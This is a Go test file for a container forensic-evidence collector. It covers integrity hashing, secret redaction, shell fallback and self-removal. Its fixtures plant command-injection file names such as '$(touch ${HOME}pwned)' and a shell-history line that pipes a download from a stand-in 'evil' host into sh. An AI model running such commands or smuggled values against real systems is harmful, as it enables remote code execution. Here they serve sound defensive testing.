package collector_test

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/warren-dev/warren/collector"
	"github.com/warren-dev/warren/collector/collectortest"
)

func needRoot(t *testing.T) {
	t.Helper()
	if os.Getuid() != 0 {
		t.Skip("the fake container needs root (mount namespace, chroot)")
	}
}

// hostile are file names that would run code if a script interpolated them, break a line-based format, or read as
// options.
var hostile = []string{"$(touch ${HOME}pwned)", "`touch pwned2`", "semi;touch pwned3", "new\nline", "-rf",
	"--help", "sp ace", "pipe|field", "percent%41", "bad\xff\xfeutf8", "back\\slash", "quote'\"", "*", ".hidden"}

// plant builds a container root with tools and evidence; it returns the root.
func plant(t *testing.T, tools ...string) string {
	t.Helper()
	root := t.TempDir()
	if err := collectortest.MakeRoot(root, tools...); err != nil {
		t.Skip(err)
	}
	files := map[string]string{
		"etc/passwd":                "root:x:0:0:root:/root:/bin/sh\napp:x:1000:1000::/home/app:/bin/sh\n",
		"etc/ld.so.preload":         "/usr/lib/evil.so\n",
		"root/.bash_history":        "curl http://evil/x | sh\n",
		"root/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker\n",
		"root/.ssh/id_ed25519":      "-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n-----END OPENSSH PRIVATE KEY-----\n",
		"home/app/.ash_history":     "wget x\n",
		"var/tmp/dropper":           "PLANTED-EVIDENCE-dropper",
	}
	for _, n := range hostile {
		files["var/tmp/h/"+n] = "hostile:" + n
	}
	for p, c := range files {
		full := filepath.Join(root, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return root
}

func sha(s string) string { h := sha256.Sum256([]byte(s)); return hex.EncodeToString(h[:]) }

func baseOpts(t *testing.T) collector.Options {
	o := collector.DefaultOptions()
	o.BinaryDir = collectorDir(t)
	o.TempDirs = []string{"/tmp", "/var/tmp"}
	o.PIDs = []int{os.Getpid()} // the host's processes are not the fake container's
	o.TimeBudget = 2 * time.Minute
	return o
}

// checkEvidence asserts what both modes must have collected, with the receiver's hashes.
func checkEvidence(t *testing.T, root string, res *collector.Result, sink *memSink) {
	t.Helper()
	byPath := map[string]collector.File{}
	for _, f := range res.Files {
		byPath[f.Path] = f
	}
	want := map[string]string{
		"container/fs/etc/ld.so.preload":         "/usr/lib/evil.so\n",
		"container/fs/root/.bash_history":        "curl http://evil/x | sh\n",
		"container/fs/root/.ssh/authorized_keys": "ssh-ed25519 AAAA attacker\n",
		"container/fs/home/app/.ash_history":     "wget x\n",
		"container/fs/var/tmp/dropper":           "PLANTED-EVIDENCE-dropper",
	}
	for _, n := range hostile {
		want["container/fs/var/tmp/h/"+collector.EscapeName(n)] = "hostile:" + n
	}
	for p, content := range want {
		f, ok := byPath[p]
		if !ok {
			t.Errorf("%s not collected", p)
			continue
		}
		if f.SHA256 != sha(content) || f.Size != int64(len(content)) || string(sink.data[p]) != content {
			t.Errorf("%s: %d bytes sha256 %s, want %d bytes %s", p, f.Size, f.SHA256, len(content), sha(content))
		}
	}
	if _, ok := byPath["container/fs/root/.ssh/id_ed25519"]; ok {
		t.Error("a private key was copied without CopySecrets")
	}
	if !hasSkip(res, "/root/.ssh/id_ed25519", collector.ReasonSecret) {
		t.Errorf("the private key is not recorded as a secret skip: %+v", res.Skipped)
	}
	for _, p := range []string{"pwned", "pwned2", "pwned3", "rootpwned", "/rootpwned"} {
		if _, err := os.Stat(filepath.Join(root, p)); err == nil {
			t.Errorf("a hostile name ran code: %s exists", p)
		}
		if _, err := os.Stat(filepath.Join(root, "root", p)); err == nil {
			t.Errorf("a hostile name ran code: /root/%s exists", p)
		}
	}
	for _, name := range sink.names {
		if strings.ContainsAny(name, "\n\r") {
			t.Errorf("archive path with a control character: %q", name)
		}
	}
	// The last entry is the manifest; the first the self record.
	if sink.names[0] != collector.SelfPath || sink.names[len(sink.names)-1] != collector.ManifestPath {
		t.Errorf("entries from %s to %s", sink.names[0], sink.names[len(sink.names)-1])
	}
	if len(res.Files) != len(sink.names) {
		t.Errorf("%d files in the result, %d entries stored", len(res.Files), len(sink.names))
	}
}

func hasSkip(res *collector.Result, path, reason string) bool {
	for _, s := range res.Skipped {
		if s.Path == path && s.Reason == reason {
			return true
		}
	}
	return false
}

// startEnvProcess runs a process with secrets in its environment and returns its PID.
func startEnvProcess(t *testing.T) int {
	t.Helper()
	cmd := exec.Command("sleep", "60")
	cmd.Env = []string{"PATH=/bin", "DB_PASSWORD=hunter2", "AWS_SECRET_ACCESS_KEY=abc", "GITHUB_TOKEN=ghp_x",
		"DATABASE_URL=postgres://u:pw@db/x", "PLAIN=visible", "MY_CUSTOM=also-secret"}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	return cmd.Process.Pid
}

func checkRedacted(t *testing.T, sink *memSink, pid int) {
	t.Helper()
	env := string(sink.data["container/proc/"+strconv.Itoa(pid)+"/environ"])
	for _, leak := range []string{"hunter2", "abc", "ghp_x", "pw@db", "also-secret"} {
		if strings.Contains(env, "="+leak) || strings.Contains(env, leak+"\x00") {
			t.Errorf("environ leaks %q: %q", leak, env)
		}
	}
	if !strings.Contains(env, "PLAIN=visible") || !strings.Contains(env, "DB_PASSWORD=<redacted>") {
		t.Errorf("environ %q", env)
	}
}

func TestCollectCollectorMode(t *testing.T) {
	needRoot(t)
	root := plant(t, "cat", "chmod", "readlink", "stat", "rm")
	c := &collectortest.Container{Root: root}
	pid := startEnvProcess(t)
	opts := baseOpts(t)
	opts.PIDs = []int{pid}
	opts.RedactEnv = []*regexp.Regexp{regexp.MustCompile(`^MY_CUSTOM$`)}
	sink := newMemSink()
	res, err := collector.Collect(context.Background(), constantScripts(t, c.Exec), opts, sink)
	if err != nil {
		t.Fatalf("Collect: %v", err)
	}
	t.Logf("%d execs, %d files, %d skipped, stdout %d bytes", len(res.Execs), len(res.Files), len(res.Skipped), res.Stdout.Bytes)
	if res.Mode != "collector" || res.ModeReason != "" {
		t.Fatalf("mode %q (%s), want collector", res.Mode, res.ModeReason)
	}
	bin, _ := os.ReadFile(filepath.Join(collectorDir(t), collector.BinaryName(runtimeArch())))
	if want := "sha256:" + sha(string(bin)); res.CollectorDigest != want || res.CollectorVersion != "test" {
		t.Errorf("collector %s %s, want test %s", res.CollectorVersion, res.CollectorDigest, want)
	}
	checkEvidence(t, root, res, sink)
	checkRedacted(t, sink, pid)
	// The collector removed itself: nothing named .warren-collector-* is left in /tmp.
	left, _ := filepath.Glob(filepath.Join(root, "tmp", ".warren-collector-*"))
	if len(left) != 0 {
		t.Errorf("left behind: %v", left)
	}
	if !strings.Contains(strings.Join(res.Footprint, "\n"), "removed") {
		t.Errorf("footprint %q", res.Footprint)
	}
	if res.Stdout.Bytes == 0 || res.Stdout.SHA256 == "" {
		t.Errorf("stdout digest %+v", res.Stdout)
	}
}

func runtimeArch() string {
	return strings.TrimPrefix(collector.BinaryName(goarch), "warren-collector-linux-")
}

func TestCollectFallsBackToShell(t *testing.T) {
	needRoot(t)
	for _, tc := range []struct {
		name   string
		tools  []string
		tmp    []string
		dirs   []string
		reason string
	}{
		{"noexec tmp", []string{"cat", "chmod", "readlink", "stat", "rm"}, []string{"noexec"}, []string{"/tmp"}, "/tmp: mounted noexec"},
		{"read-only tmp", []string{"cat", "chmod", "readlink", "stat", "rm"}, []string{"ro"}, []string{"/tmp"}, "/tmp: not writable (read-only or permissions)"},
		{"no chmod", []string{"cat", "readlink", "stat"}, nil, []string{"/tmp"}, "no chmod in the image to make the collector executable"},
		{"only sh and cat", []string{"cat"}, []string{"noexec"}, []string{"/tmp"}, "/tmp: mounted noexec"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			root := plant(t, tc.tools...)
			c := &collectortest.Container{Root: root, TmpOptions: tc.tmp}
			pid := startEnvProcess(t)
			opts := baseOpts(t)
			opts.TempDirs = tc.dirs
			opts.PIDs = []int{pid}
			opts.RedactEnv = []*regexp.Regexp{regexp.MustCompile(`^MY_CUSTOM$`)}
			sink := newMemSink()
			res, err := collector.Collect(context.Background(), constantScripts(t, c.Exec), opts, sink)
			if err != nil {
				t.Fatalf("Collect: %v", err)
			}
			t.Logf("%d execs, %d files, %d skipped", len(res.Execs), len(res.Files), len(res.Skipped))
			if res.Mode != "shell" || res.ModeReason != tc.reason {
				t.Fatalf("mode %q reason %q, want shell %q", res.Mode, res.ModeReason, tc.reason)
			}
			checkEvidence(t, root, res, sink)
			checkRedacted(t, sink, pid)
			if res.CollectorDigest != "" {
				t.Errorf("collector digest %q in shell mode", res.CollectorDigest)
			}
		})
	}
}

// constantScripts checks every exec Collect makes: a shell only ever gets one of the package's constant scripts
// (the record names it "script:NAME"), and every other argv starts with a tool or the uploaded collector, so no
// target value is ever shell code.
func constantScripts(t *testing.T, inner collector.Exec) collector.Exec {
	return func(ctx context.Context, argv []string, in io.Reader, out, errOut io.Writer) error {
		switch {
		case argv[0] == "sh":
			if len(argv) < 4 || argv[1] != "-c" || !collector.IsScript(argv[2]) || argv[3] != "sh" {
				t.Errorf("a shell got code that is not a constant script: %q", argv)
			}
		case argv[0] == "cat" || argv[0] == "readlink":
			if len(argv) != 2 || !strings.HasPrefix(argv[1], "/") {
				t.Errorf("tool argv %q", argv)
			}
		case strings.Contains(argv[0], "/.warren-collector-"):
		default:
			t.Errorf("unexpected exec %q", argv)
		}
		return inner(ctx, argv, in, out, errOut)
	}
}

// tamper wraps an Exec and rewrites the stdin of the upload or the stdout of the collector.
func tamper(inner collector.Exec, stdin, stdout func([]byte) []byte) collector.Exec {
	return func(ctx context.Context, argv []string, in io.Reader, out, errOut io.Writer) error {
		if in != nil && stdin != nil {
			data, err := io.ReadAll(in)
			if err != nil {
				return err
			}
			in = bytes.NewReader(stdin(data))
		}
		if stdout != nil && strings.Contains(argv[0], ".warren-collector-") {
			var buf bytes.Buffer
			err := inner(ctx, argv, in, &buf, errOut)
			out.Write(stdout(buf.Bytes()))
			return err
		}
		return inner(ctx, argv, in, out, errOut)
	}
}

func TestCollectTamperedBinaryFailsSelfHash(t *testing.T) {
	needRoot(t)
	root := plant(t, "cat", "chmod", "rm")
	c := &collectortest.Container{Root: root}
	// Flip one letter of a usage string: the binary still runs, and hashes itself as something else.
	ex := tamper(c.Exec, func(b []byte) []byte {
		return bytes.Replace(b, []byte("usage: warren-collector"), []byte("usage: warren-Collector"), 1)
	}, nil)
	sink := newMemSink()
	_, err := collector.Collect(context.Background(), ex, baseOpts(t), sink)
	if !errors.Is(err, collector.ErrSelfHash) {
		t.Fatalf("err = %v, want ErrSelfHash", err)
	}
	if len(sink.names) != 0 {
		t.Errorf("entries reached the sink before the self-hash check: %v", sink.names)
	}
}

func TestCollectStreamTamperedFailsNamingFile(t *testing.T) {
	needRoot(t)
	root := plant(t, "cat", "chmod", "rm")
	c := &collectortest.Container{Root: root}
	ex := tamper(c.Exec, nil, func(b []byte) []byte {
		return bytes.Replace(b, []byte("PLANTED-EVIDENCE-dropper"), []byte("PLANTED-EVIDENCE-droppeR"), 1)
	})
	_, err := collector.Collect(context.Background(), ex, baseOpts(t), newMemSink())
	var ie *collector.IntegrityError
	if !errors.As(err, &ie) || ie.Path != "container/fs/var/tmp/dropper" || !errors.Is(err, collector.ErrIntegrity) {
		t.Fatalf("err = %v, want an integrity error naming container/fs/var/tmp/dropper", err)
	}
	if !strings.Contains(err.Error(), "the collector hashed") {
		t.Errorf("message %q", err)
	}
}

func TestCollectNoShell(t *testing.T) {
	needRoot(t)
	root := t.TempDir()
	c := &collectortest.Container{Root: root}
	_, err := collector.Collect(context.Background(), c.Exec, baseOpts(t), newMemSink())
	if !errors.Is(err, collector.ErrNoShell) {
		t.Fatalf("err = %v, want ErrNoShell", err)
	}
}

// Shell mode: a deleted executable is copied through /proc/PID/exe, a file over its cap is cut there (the
// original's size unknown, as cat was stopped), and the byte bound holds.
func TestCollectShellCapsAndDeletedExe(t *testing.T) {
	needRoot(t)
	root := plant(t, "cat", "readlink", "stat")
	src, err := exec.LookPath("sleep")
	if err != nil {
		t.Skip(err)
	}
	orig, _ := os.ReadFile(src)
	bin := filepath.Join(t.TempDir(), "implant")
	if err := os.WriteFile(bin, orig, 0o755); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(bin, "30")
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill(); cmd.Wait() })
	os.Remove(bin)

	c := &collectortest.Container{Root: root}
	opts := baseOpts(t)
	opts.Method = collector.MethodShell
	opts.PIDs = []int{cmd.Process.Pid}
	opts.MaxTmpFileBytes = 10
	sink := newMemSink()
	res, err := collector.Collect(context.Background(), constantScripts(t, c.Exec), opts, sink)
	if err != nil {
		t.Fatalf("Collect: %v", err)
	}
	if res.Mode != "shell" || res.ModeReason != "shell method asked for" {
		t.Errorf("mode %q %q", res.Mode, res.ModeReason)
	}
	name := "container/proc/" + strconv.Itoa(cmd.Process.Pid) + "/exe.deleted"
	if !bytes.Equal(sink.data[name], orig) {
		t.Errorf("%s: %d bytes, want the deleted file's %d", name, len(sink.data[name]), len(orig))
	}
	var capped collector.File
	for _, f := range res.Files {
		if f.Path == "container/fs/var/tmp/dropper" {
			capped = f
		}
	}
	if capped.Size != 10 || capped.SHA256 != sha("PLANTED-EV") || capped.OrigSize != -1 || capped.Note != collector.ReasonSizeCap {
		t.Errorf("capped file %+v", capped)
	}
}
